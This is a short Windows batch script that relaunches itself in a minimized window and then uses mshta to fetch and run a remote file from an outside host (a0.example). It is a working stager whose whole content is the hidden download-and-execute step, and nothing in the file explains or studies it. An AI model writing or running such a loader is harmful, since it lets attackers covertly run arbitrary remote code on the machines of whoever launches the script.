@echo off
if "%1"=="" (start /min "" cmd /c "%~f0" go mshta http://a0.example/p.txt & exit /b)
shift
%1 %2
